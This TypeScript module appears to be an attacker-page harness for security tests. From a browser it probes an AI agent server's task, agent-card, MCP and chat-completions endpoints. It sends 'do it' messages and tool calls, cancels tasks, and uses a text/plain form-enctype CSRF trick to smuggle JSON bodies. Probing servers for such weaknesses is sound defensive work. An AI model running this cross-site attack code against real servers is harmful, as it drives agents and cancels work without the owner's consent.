/** What a page tries with a server: runs inside the browser, so it stands on nothing outside of itself. */

/** Whom to attack, and by which path the tasks can be followed. */
export interface Target {
  /** The server's address, as the page names it. */
  readonly url: string
  readonly taskId: string
}

/** Reads in every way that a page has; gives the texts that it got to see. */
export async function readAll({ url, taskId }: Target): Promise<readonly string[]> {
  const seen: string[] = []
  const paths = ['/tasks', `/tasks/${taskId}`, '/agents', '/health', '/metrics', '/v1/models']
  const cards = ['/.well-known/agent-card.json', '/.well-known/agent.json']
  for (const path of [...paths, ...cards])
    for (const mode of ['cors', 'no-cors', 'same-origin'] as const) {
      const text = await fetch(url + path, { mode })
        .then((response) => (response.ok ? response.text() : ''))
        .catch(() => '')
      if (text !== '') seen.push(text)
    }
  await new Promise<void>((resolve) => {
    const source = new EventSource(`${url}/tasks/${taskId}:subscribe`)
    const end = (): void => {
      source.close()
      resolve()
    }
    source.onopen = () => {
      seen.push('a stream')
      end()
    }
    source.onerror = end
  })
  return seen
}

/** Writes in every way that a page has; gives how many answers it got to see. */
export async function writeAll({ url, taskId }: Target): Promise<number> {
  const message = { messageId: 'm', role: 'user', parts: [{ kind: 'text', text: 'do it' }] }
  const rpc = { jsonrpc: '2.0', id: 1, method: 'message/send', params: { message } }
  const rest = { message: { ...message, role: 'ROLE_USER', parts: [{ text: 'do it' }] } }
  const chat = { model: 'keeper', messages: [{ role: 'user', content: 'do it' }] }
  const bodies: readonly (readonly [string, object])[] = [
    ['/', rpc],
    ['/rpc', rpc],
    ['/v1/rpc', rpc],
    [
      '/mcp',
      { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'keeper', arguments: {} } },
    ],
    ['/message:send', rest],
    ['/v1/message:send', rest],
    ['/v1/chat/completions', chat],
    [`/tasks/${taskId}:cancel`, {}],
  ]
  const types = ['application/json', 'text/plain', 'application/x-www-form-urlencoded', '']
  let answered = 0
  for (const [path, body] of bodies)
    for (const type of types)
      for (const mode of ['cors', 'no-cors'] as const) {
        // A Blob without a type is sent without a content type.
        const data = new Blob([JSON.stringify(body)], { type })
        await fetch(url + path, { method: 'POST', mode, body: data }).then(
          (response) => (answered += response.ok ? 1 : 0),
          () => undefined,
        )
        navigator.sendBeacon(url + path, data)
      }
  await fetch(`${url}/tasks/${taskId}:cancel`, { method: 'POST', mode: 'no-cors' }).catch(() => {})
  return answered
}

/** Sends a form whose body is JSON, as `text/plain` lets it be, and one as forms usually are. */
export async function submitForms({ url }: Target): Promise<void> {
  const message = '{"messageId":"m","role":"ROLE_USER","parts":[{"text":"do it"}]}'
  const text = `{"message":${message},"metadata":{"rest":"`
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
    for (const path of ['/', '/message:send', '/v1/chat/completions']) {
      const frame = document.createElement('iframe')
      frame.name = `frame-${enctype}-${path}`
      const form = document.createElement('form')
      Object.assign(form, { method: 'POST', action: url + path, enctype, target: frame.name })
      const input = document.createElement('input')
      Object.assign(input, { name: text, value: '"}}' })
      form.append(input)
      document.body.append(frame, form)
      await new Promise<void>((resolve) => {
        frame.onload = () => resolve()
        form.submit()
      })
    }
}
